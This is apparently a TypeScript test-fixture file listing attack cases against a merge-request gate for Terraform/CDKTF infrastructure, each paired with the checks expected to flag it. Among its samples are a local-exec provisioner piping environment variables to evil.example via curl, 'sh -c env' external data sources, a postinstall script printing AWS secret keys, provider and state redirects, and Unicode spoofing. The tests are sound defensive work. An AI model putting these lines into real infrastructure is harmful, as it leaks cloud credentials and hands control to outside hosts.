import type { ForgeryCase } from '../case.ts';
import type { FileContent } from '../git-store.ts';
import { atMergeRequest, CANARIES, objects } from '../subjects/gate.ts';
import { checkedOut } from '../template.ts';
import { FROM, PLACEMENT, placementText, TO } from '../world.ts';

const NOT_DATA = objects('data_only_diff: review');
const SECRET = 'process.env.AWS_SECRET_ACCESS_KEY';

/** Code that runs while a merge request is planned, if anybody lets it. */
const STACKS: Readonly<Record<string, readonly [string, FileContent]>> = {
  'synthesis that prints a credential': ['infra/synth.ts', `console.log(${SECRET});\n`],
  'a stack with an external data source': [
    'infra/stacks/service-stack.ts',
    "export const data = { external: { x: { program: ['sh', '-c', 'env'] } } };\n",
  ],
  'a stack with a local-exec provisioner': [
    'infra/stacks/render.ts',
    "export const provisioner = { 'local-exec': { command: 'env | curl -d @- https://evil.example' } };\n",
  ],
  'a stack that opens a port': ['infra/providers/aws/security-group-rules.ts', 'export const ports = [22];\n'],
  'a provider from elsewhere': ['infra/providers/aws/connection.ts', "export const source = 'evil.example/hashicorp/aws';\n"],
  'another state backend': ['infra/stacks/state-backend.ts', "export const address = 'https://evil.example/state';\n"],
  'a main that lists another stack': ['infra/main.ts', 'export const listStacks = () => [];\n'],
  'a reader of placements that adds': ['infra/placement.ts', 'export const readPlacement = () => ({ count: 100 });\n'],
  'a fleet reader that reads elsewhere': ['infra/fleet.ts', "export const INFRA = '/etc';\n"],
  'a plan command that lies': ['infra/deploy/plan.ts', 'export const plan = async () => ({ stacks: [] });\n'],
  'a canonical form of its own': ['infra/canonical.ts', "export const digest = () => 'sha256:00';\n"],
  'an app command': ['infra/cdktf.json', '{"app":"sh -c env"}\n'],
  'an install script': ['package.json', `{"scripts":{"postinstall":"node -e 'console.log(${SECRET})'"}}\n`],
  'a Terraform file beside the stacks': ['infra/evil.tf', 'data "external" "x" { program = ["sh", "-c", "env"] }\n'],
  'a Terraform file in JSON': [
    'infra/stacks/evil.tf.json',
    '{"provider":{"aws":{"endpoints":{"ec2":"https://evil.example"}}}}\n',
  ],
  'settings of Terraform': ['infra/.terraformrc', 'provider_installation { network_mirror { url = "https://evil.example/" } }\n'],
  'variables of Terraform': ['infra/terraform.tfvars', 'region = "us-east-1"\n'],
  'a cheaper catalogue': [
    'infra/providers/gcp/catalog.json',
    checkedOut('infra/providers/gcp/catalog.json').replaceAll('0.067', '0.0001'),
  ],
  'a service that is no longer stateful': [
    'infra/services/orders-db.json',
    checkedOut('infra/services/orders-db.json').replace('"stateful": true', '"stateful": false'),
  ],
  'a service without residency': [
    'infra/services/service-1.json',
    checkedOut('infra/services/service-1.json').replace('"dataGib": 20', '"dataGib": 0'),
  ],
  'a placement of a service that there is not': ['infra/placements/evil.ts', placementText('evil', TO)],
  'a placement in a folder below': ['infra/placements/x/service-1.ts', placementText('service-1', TO)],
  'a record in another form': ['infra/decisions/service-1.ts', 'export default {};\n'],
};

const OWN_REASON: Readonly<Record<string, ReturnType<typeof objects>>> = {
  'a placement of a service that there is not': objects(
    'data_only_diff: review',
    'no_stateful_service: review',
    'record_matches_diff: review',
    'two_approvals: review',
  ),
  'a service that is no longer stateful': objects('data_only_diff: review', 'two_approvals: review'),
};

const stacks = Object.entries(STACKS).map(([what, [path, content]]) =>
  atMergeRequest('T2', what, OWN_REASON[what] ?? NOT_DATA, (world) => {
    world.branch[path] = content;
  }),
);

const good = placementText('service-1', TO);

/** The one file that may change, with more in it than four values. */
const PLACEMENTS: Readonly<Record<string, string>> = {
  'code after the values': `${good}console.log(${SECRET});\n`,
  'code before the values': `process.exit(0);\n${good}`,
  'another import': good.replace("'../placement.ts'", "'../../evil.ts'"),
  'an import without type': good.replace('import type', 'import'),
  'a value that is computed': good.replace(`count: ${TO.count},`, 'count: 1 + 1,'),
  'a value from a call': good.replace(`'${TO.region}'`, "fetch('https://evil.example')"),
  'a template text': good.replace(`'${TO.region}'`, `\`\${${SECRET}}\``),
  'a value that is escaped': good.replace(`'${TO.region}'`, "'us\\u002dcentral1'"),
  'one more property': good.replace('} satisfies', '  extra: true,\n} satisfies'),
  'a prototype': good.replace('} satisfies', '  __proto__: { count: 100 },\n} satisfies'),
  'a property twice': good.replace('} satisfies', `  count: 100,\n} satisfies`),
  'a spread': good.replace('} satisfies', '  ...globalThis.more,\n} satisfies'),
  'a getter': good.replace('} satisfies', '  get count() { return 100; },\n} satisfies'),
  'another comment': good.replace('nothing else', 'everything'),
  'a marker on another line': good
    .replace(' // trimtab:count', '')
    .replace("service: 'service-1',", "service: 'service-1', // trimtab:count"),
  'Windows line ends': good.replaceAll('\n', '\r\n'),
  'a byte order mark': `\ufeff${good}`,
  'a mark that turns the text around': good.replace('// Trimtab', '// \u202eTrimtab'),
  'an invisible blank': good.replace('count:', 'count\u200b:'),
  'a negative count': good.replace(`count: ${TO.count},`, 'count: -2,'),
  'a huge count': good.replace(`count: ${TO.count},`, 'count: 1e9,'),
  'a count in hexadecimal': good.replace(`count: ${TO.count},`, 'count: 0x2,'),
  'no line feed at its end': good.slice(0, -1),
};

/** Whatever stands there is not what was signed either. */
const altered = objects('data_only_diff: review', 'record_matches_diff: deny');
const placements = Object.entries(PLACEMENTS).map(([what, text]) =>
  atMergeRequest('T2', `the placement with ${what}`, altered, (world) => {
    world.branch[PLACEMENT] = text;
  }),
);

/** A stack that put a credential into the plan: the gate must not carry it on into notes and logs. */
const leaks: ForgeryCase[] = [
  atMergeRequest('T2', 'a plan with a credential in an attribute', objects('plan_matches_record: review'), (world) => {
    world.plan = ({ stacks: [stack] }) => {
      const created = stack?.changes.find(({ actions }) => actions.includes('create'));
      if (created !== undefined) created.after = { ...created.after, input: { leak: CANARIES['AWS_SECRET_ACCESS_KEY'] } };
    };
  }),
  atMergeRequest('T2', 'a plan with a credential as an instance type', objects('plan_matches_record: deny'), (world) => {
    world.plan = ({ stacks: [stack] }) => {
      const created = stack?.changes.find(({ actions }) => actions.includes('create'));
      const input = created?.after?.['input'] as Record<string, unknown> | undefined;
      if (input !== undefined) input['instance_type'] = CANARIES['AWS_SECRET_ACCESS_KEY'];
    };
  }),
];

/** The values are right, but the old ones never were what the file says. */
const elsewhere: ForgeryCase[] = [
  atMergeRequest(
    'T2',
    'the placement of another service rides along',
    objects('data_only_diff: review', 'record_matches_diff: review'),
    (world) => {
      world.branch['infra/placements/service-2.ts'] = placementText('service-2', TO);
    },
  ),
  atMergeRequest(
    'T2',
    'the placement is put back after the record',
    objects('data_only_diff: review', 'no_stateful_service: review', 'record_matches_diff: deny'),
    (world) => {
      world.more.push({ files: { [PLACEMENT]: placementText('service-1', FROM) } });
    },
  ),
];

export const STACK_CODE: readonly ForgeryCase[] = [...stacks, ...placements, ...leaks, ...elsewhere];
